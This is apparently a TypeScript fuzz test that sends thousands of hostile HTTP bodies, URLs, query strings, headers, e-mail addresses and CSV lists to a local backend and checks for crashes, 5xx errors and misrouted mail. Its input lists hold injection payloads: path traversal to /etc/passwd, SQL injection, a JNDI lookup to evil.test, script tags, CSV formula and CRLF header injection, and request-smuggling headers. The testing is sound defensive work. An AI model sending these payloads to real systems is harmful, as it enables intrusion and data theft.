import { connect } from 'node:net';
import fc from 'fast-check';
import { normalizeEmail } from '#contract/email-address';
import { createInvitesInBulk } from '#contract/invite';
import { readAddressList } from '../../src/renderer/invite/address-list.ts';
import { createApiClient, signIn, type ApiClient } from '../support/api-client.ts';
import type { Team } from '../support/factories.ts';
import { openMailServer, type MailServer } from '../support/mail-server.ts';
import { routeRows, routesApart } from '../support/route-table.ts';
import type { Part } from './part.ts';
import { openRig, type Rig } from './rig.ts';

const inputs = { short: 80, long: 10_000 };
/** Requests that wait for their answers at once. */
const atOnce = 16;
const answerPatienceMs = 20_000;

export const part: Part = {
  what: 'hostile inputs per parser: body, URL, query, headers, e-mail address, CSV',
  goal: '10,000 each: 0 crashes, 0 5xx',
  async run(size) {
    const mailServer = await openMailServer();
    const rig = await openRig({ nodes: 1, smtpUrl: mailServer.smtpUrl });
    try {
      const stage = await openStage(rig, mailServer);
      const count = inputs[size];
      const faults: string[] = [];
      await throwBodies(stage, count, faults);
      await throwUrls(stage, count, faults);
      await throwQueries(stage, count, faults);
      await throwHeaders(stage, count, faults);
      const mailed = await throwAddresses(stage, count, faults);
      throwTables(count, faults);
      faults.push(...(await signsOfCrash(rig)));
      return {
        reached: [
          `${count.toLocaleString('en')} each: ${faults.length} crashes, 5xx or other faults`,
          `${mailed} addresses were good and got their own mail`,
          ...faults.slice(0, 3),
        ].join('; '),
        met: faults.length === 0,
      };
    } finally {
      await rig.close();
      await mailServer.close();
    }
  },
};

interface Stage {
  url: string;
  client: ApiClient;
  accessToken: string;
  team: Team;
  mailServer: MailServer;
}

async function openStage({ world, urls }: Rig, mailServer: MailServer): Promise<Stage> {
  const url = urls[0] ?? '';
  const team = await world.team();
  const { tokens } = await signIn(url, team.owner);
  return { url, client: createApiClient(url, tokens.accessToken), ...tokens, team, mailServer };
}

/** The same in every run: what is found once can be found again. */
const sampled = <T>(arbitrary: fc.Arbitrary<T>, count: number): T[] =>
  fc.sample(arbitrary, { numRuns: count, seed: 20_261_125 });

async function forEach<T>(items: readonly T[], work: (item: T) => Promise<void>): Promise<void> {
  const waiting = items.values();
  const lane = async (): Promise<void> => {
    for (const item of waiting) await work(item);
  };
  await Promise.all(Array.from({ length: atOnce }, lane));
}

/** Lists that are long and plain. */
const words = (list: string): string[] => list.trim().split(/\s+/);
const phrases = (list: string): string[] => list.split(',').map((phrase) => phrase.trim());

const nasty = fc.constantFrom(
  '\0',
  '\ud800',
  '\u202e',
  '\r\nSet-Cookie: a=b',
  '../../etc/passwd',
  "' or 1=1 --",
  '{{7*7}}',
  '${jndi:ldap://evil.test}',
  '<script>alert(1)</script>',
  '=cmd|calc!A1',
  '%00%0d%0a',
  '__proto__',
  'constructor',
  '9'.repeat(400),
  '-1',
  '1e999',
  'NaN',
  'infinity',
  'a'.repeat(5_000),
  '\u0301'.repeat(500),
);
const text = fc.oneof(nasty, fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ maxLength: 40 }));
const name = fc.constantFrom(
  ...words(`email role name password refreshToken maxSeats memberId invites code totp current next logoUrl
    reminders description scopes expiresAt __proto__ toString`),
);
const { value } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4 },
    text,
    fc.constantFrom(null, true, false, 0, -0, 1e308, -1, 2 ** 53, 2 ** 31, 0.1),
    fc.double(),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(name, text), tie('value'), { maxKeys: 4, noNullPrototype: true }),
  ),
}));
const body = fc.oneof(
  fc
    .dictionary(name, value, { minKeys: 1, maxKeys: 5, noNullPrototype: true })
    .map((made) => JSON.stringify(made)),
  value.map((made) => JSON.stringify(made) ?? 'undefined'),
  // Broken somewhere.
  fc
    .tuple(fc.dictionary(name, value, { noNullPrototype: true }), fc.nat(60), text)
    .map(([made, at, wedge]) => {
      const whole = JSON.stringify(made);
      return whole.slice(0, at) + wedge + whole.slice(at);
    }),
  fc.nat(3_000).map((depth) => `{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`),
  fc.constantFrom(
    '{"name":"a","name":"b"}',
    '{"a":1}{"b":2}',
    '\ufeff{}',
    '[]',
    '""',
    'null',
    ' ',
    '{"email":1e400}',
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
);
const contentType = fc.oneof(
  { weight: 8, arbitrary: fc.constant('application/json') },
  fc.constantFrom(
    'application/json; charset=utf-16',
    'application/json;;',
    'APPLICATION/JSON',
    'text/html',
    'x',
    '/',
  ),
);

/** Routes that take a body. Ending all sessions would end the one that these calls are made with. */
const routesWithBody = [...routeRows.map(({ route }) => route), ...routesApart].filter((route) =>
  /^(POST|PUT|PATCH)/.test(route),
);

function pathOf(route: string, { team }: Stage): string {
  return (route.split(' ')[1] ?? '')
    .replace('{organizationId}', team.organizationId)
    .replace('{memberId}', team.agent.memberId)
    .replace(/\{\w+\}/, '01a204a9-2d99-767a-9055-41f2288c4479');
}

async function throwBodies(stage: Stage, count: number, faults: string[]): Promise<void> {
  const thrown = sampled(fc.tuple(fc.constantFrom(...routesWithBody), body, contentType), count);
  await forEach(thrown, async ([route, sent, type]) => {
    const [method = ''] = route.split(' ');
    const headers = { 'Content-Type': type };
    const answer = await stage.client
      .raw({ method, path: pathOf(route, stage), body: sent, headers })
      .catch((error: unknown) => ({ status: 599, text: String(error) }));
    judge(faults, `${route} with the body ${sent.slice(0, 200)}`, answer);
  });
}

const step = fc.oneof(
  fc.constantFrom(
    'api',
    'organizations',
    'invites',
    'members',
    'support',
    'invite',
    'Account',
    'Login',
    'csv',
    '',
  ),
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '%2f',
    '%5c',
    '%00',
    '%ff',
    '%',
    '%zz',
    '\\',
    ';',
    '@',
    '*',
    '#',
    '//',
    '\t',
  ),
  fc.constantFrom('a'.repeat(600), 'http://evil.test', '{organizationId}', ':organizationId', 'members.csv'),
  text,
);
const methods = fc.constantFrom(
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
);

async function throwUrls(stage: Stage, count: number, faults: string[]): Promise<void> {
  const target = fc.array(step, { maxLength: 7 }).map((steps) => `/${steps.join('/')}`);
  const thrown = sampled(fc.tuple(methods, fc.oneof(target, text), fc.boolean()), count);
  await forEach(thrown, async ([method, path, signedIn]) => {
    // A live stream never ends: it has an own way to be closed.
    if (path.includes('/events')) return;
    const headers = signedIn ? [`Authorization: Bearer ${stage.accessToken}`] : [];
    judge(faults, `${method} ${path.slice(0, 200)}`, await speak(stage, { method, path, headers }));
  });
}

const question = fc.constantFrom(
  ...words(`limit cursor search sort filter status role delivery invitedBy type actor from to kind invites
    returnUrl token password with organizationId __proto__`),
);
const oddCursor = fc
  .array(value, { maxLength: 4 })
  .map((position) => Buffer.from(JSON.stringify(position)).toString('base64url'));
const routesToAsk = [...routeRows.map(({ route }) => route), ...routesApart]
  .filter((route) => route.startsWith('GET') && !route.endsWith('/events'))
  .concat(...['/Account/Login', '/Account/ResetPassword', '/support/invite/x'].map((path) => `GET ${path}`));

async function throwQueries(stage: Stage, count: number, faults: string[]): Promise<void> {
  const pair = fc
    .tuple(
      fc.oneof(question, text),
      fc.oneof(text, oddCursor, fc.constantFrom('asc', '1', '200', 'name', 'all')),
    )
    .map(([key, given]) => `${encoded(key)}=${encoded(given)}`);
  const raw = fc.constantFrom(
    '%',
    '&&&',
    '=',
    '?',
    'limit=%ff',
    'cursor=%00',
    'search[]=a',
    'sort=name&sort=email',
  );
  const query = fc.array(fc.oneof({ weight: 6, arbitrary: pair }, raw), { maxLength: 6 });
  const thrown = sampled(fc.tuple(fc.constantFrom(...routesToAsk), query), count);
  await forEach(thrown, async ([route, pairs]) => {
    const path = `${pathOf(route, stage)}?${pairs.join('&')}`;
    const headers = [`Authorization: Bearer ${stage.accessToken}`];
    judge(faults, `GET ${path.slice(0, 300)}`, await speak(stage, { method: 'GET', path, headers }));
  });
}

function encoded(written: string): string {
  return encodeURIComponent(written.toWellFormed()).slice(0, 3_000);
}

async function throwHeaders(stage: Stage, count: number, faults: string[]): Promise<void> {
  const known = fc.constantFrom(
    ...words(`Authorization X-Api-Key Idempotency-Key Cookie Origin Referer Host Accept Content-Type
    Content-Length Transfer-Encoding X-Forwarded-For X-Forwarded-Host Forwarded Sec-Fetch-Site
    Sec-Fetch-User User-Agent If-None-Match Range Expect Upgrade X-Request-Id`),
  );
  const { accessToken } = stage;
  const part = fc.oneof(
    text,
    fc.constantFrom(
      accessToken,
      `${accessToken}x`,
      accessToken.slice(0, -2),
      'Bearer',
      'Basic',
      'fli_',
      'null',
    ),
    fc.constantFrom(
      'chunked',
      '0',
      '-5',
      '99999999999',
      '100-continue',
      'websocket',
      'gzip',
      '::1',
      '127.0.0.1',
    ),
    fc.constantFrom('fastlinkit_session=', 'fastlinkit_code=', 'a=b;', '"', '\u00e9', 'x'.repeat(20_000)),
  );
  const header = fc
    .tuple(fc.oneof({ weight: 9, arbitrary: known }, text), fc.array(part, { maxLength: 3 }))
    .map(([key, parts]) => `${key}: ${parts.join(' ')}`);
  const target = fc.constantFrom(
    ...phrases(`GET /api/me,GET /Account,GET /Account/Login,GET /support/invite/x,GET /healthz,
    POST /api/organizations,POST /Account/Login,POST /api/auth/refresh,
    POST /support/invite/x/accept`),
  );
  const thrown = sampled(fc.tuple(target, fc.array(header, { minLength: 1, maxLength: 6 })), count);
  await forEach(thrown, async ([route, headers]) => {
    const [method = '', path = ''] = route.split(' ');
    judge(
      faults,
      `${route} with ${headers.join(' | ').slice(0, 300)}`,
      await speak(stage, { method, path, headers }),
    );
  });
}

/** Hostile addresses are invited: each is refused, or mailed to exactly the address that was meant, and nowhere else. */
async function throwAddresses(stage: Stage, count: number, faults: string[]): Promise<number> {
  const piece = fc.oneof(
    fc.constantFrom(
      'victim',
      'evil',
      'a',
      '.',
      '..',
      '"',
      '\\',
      '@',
      ',',
      ';',
      ':',
      '<',
      '>',
      '(',
      ')',
      '[',
      ']',
    ),
    fc.constantFrom(
      '\r\n',
      '\n',
      '\0',
      '\t',
      ' ',
      '%0a',
      '=?utf-8?q?=40?=',
      '\u202e',
      '\uff20',
      '\u3002',
      '\ud800',
    ),
    fc.constantFrom(
      'evil.test',
      'victim.test',
      'xn--a',
      'bücher.test',
      '127.0.0.1',
      '[127.0.0.1]',
      'test',
      '+',
      '!',
    ),
  );
  const address = fc
    .tuple(fc.array(piece, { maxLength: 5 }), fc.nat(1_000_000), fc.array(piece, { maxLength: 4 }))
    .map(([before, number, after]) => `${before.join('')}${number}@${after.join('')}`);
  const plain = fc.nat(1_000_000).map((n) => `plain-${n}@evil.test`);
  const thrown = sampled(
    fc.oneof({ weight: 30, arbitrary: address }, { weight: 1, arbitrary: plain }),
    count,
  );
  const accepted = new Set<string>();
  for (let at = 0; at < count; at += 1_000) {
    const invites = thrown.slice(at, at + 1_000).map((email) => ({ email, role: 'agent' as const }));
    const { results } = await stage.client.call(createInvitesInBulk, {
      params: { organizationId: stage.team.organizationId },
      body: { invites },
    });
    for (const [index, { outcome }] of results.entries()) {
      const written = invites[index]?.email ?? '';
      if (outcome === 'refused') continue;
      const normal = normalizeEmail(written);
      if (normal === undefined) faults.push(`${JSON.stringify(written)} was invited and is no address`);
      else accepted.add(normal);
    }
  }
  await allMailed(stage.mailServer, accepted);
  for (const { to } of stage.mailServer.taken)
    // One form of the domain stands in the database, the other one may be said to the mail server.
    if (!accepted.has(normalizeEmail(to) ?? to)) faults.push(`a mail went to ${JSON.stringify(to)}`);
  return accepted.size;
}

async function allMailed({ taken }: MailServer, accepted: ReadonlySet<string>): Promise<void> {
  const until = Date.now() + 180_000;
  while (new Set(taken.map(({ to }) => to)).size < accepted.size) {
    if (Date.now() > until) throw new Error(`${taken.length} of ${accepted.size} mails came`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/** The list of people that is pasted into the app, or dropped as a file. */
function throwTables(count: number, faults: string[]): void {
  const cell = fc.oneof(
    text,
    fc.constantFrom(
      'email',
      'role',
      'admin',
      'a@b.test',
      '"a@b.test',
      '""',
      '"',
      "'",
      '<a@b.test>',
      'Doe, Jane <j@b.test>',
    ),
    fc.constantFrom('\ufeff', '\u200b', '\r', '\n', '\r\n', '\u2028', ',', ';', '\t', '|', '='),
  );
  const table = fc
    .tuple(
      fc.constantFrom('', 'email,role\n', '\ufeffE-Mail;Role\r\n', '"email\n'),
      fc.array(cell, { maxLength: 30 }),
    )
    .map(([head, cells]) => head + cells.join(''));
  for (const written of sampled(table, count)) {
    try {
      const rows = readAddressList(written);
      if (!rows.every(({ email }) => typeof email === 'string'))
        faults.push(`a row of ${JSON.stringify(written)}`);
    } catch (error) {
      faults.push(`the list ${JSON.stringify(written.slice(0, 200))}: ${String(error)}`);
    }
  }
}

interface Heard {
  status: number;
  text: string;
}

function judge(faults: string[], what: string, { status, text: said }: Heard): void {
  if (status >= 500) faults.push(`${status} for ${what}: ${said.slice(0, 200)}`);
}

/**
 * Says what no HTTP client would say. Answers with status 0 when the server hangs up without a word, which it may do
 * with what is no HTTP.
 */
async function speak(
  { url }: Stage,
  { method, path, headers }: { method: string; path: string; headers: string[] },
): Promise<Heard> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  let said = '';
  socket.setEncoding('latin1').on('data', (chunk: string) => {
    if (said.length < 4_000) said += chunk;
  });
  const closed = new Promise((resolve) => socket.once('close', resolve));
  // Hanging up in the middle of our words is an answer too.
  socket.on('error', () => undefined);
  socket.setTimeout(answerPatienceMs, () => {
    said = `HTTP/1.1 599 no answer within ${answerPatienceMs} ms`;
    socket.destroy();
  });
  socket.end(
    Buffer.from(
      [`${method} ${path} HTTP/1.1`, 'Host: backend.test', 'Connection: close', ...headers, '', ''].join(
        '\r\n',
      ),
    ),
  );
  await closed;
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(said)?.[1] ?? 0), text: said };
}

/** What is left of a backend that was treated so. */
async function signsOfCrash({ backends, world }: Rig): Promise<string[]> {
  const [backend] = backends;
  if (!backend) return ['there is no backend'];
  const signs: string[] = [];
  const healthy = await fetch(`${backend.url}/readyz`).then(
    ({ ok }) => ok,
    () => false,
  );
  if (!healthy) signs.push('the backend is not ready any more');
  const unexpected = backend
    .log()
    .filter(({ level, msg }) => level === 'fatal' || msg === 'unexpected error');
  for (const line of unexpected) signs.push(`in the log: ${JSON.stringify(line).slice(0, 300)}`);
  const { rows } = await world.database.pool.query<{ count: number }>(
    'select count(*)::int as count from organizations',
  );
  if ((rows[0]?.count ?? 0) === 0) signs.push('the organizations are gone');
  return signs;
}
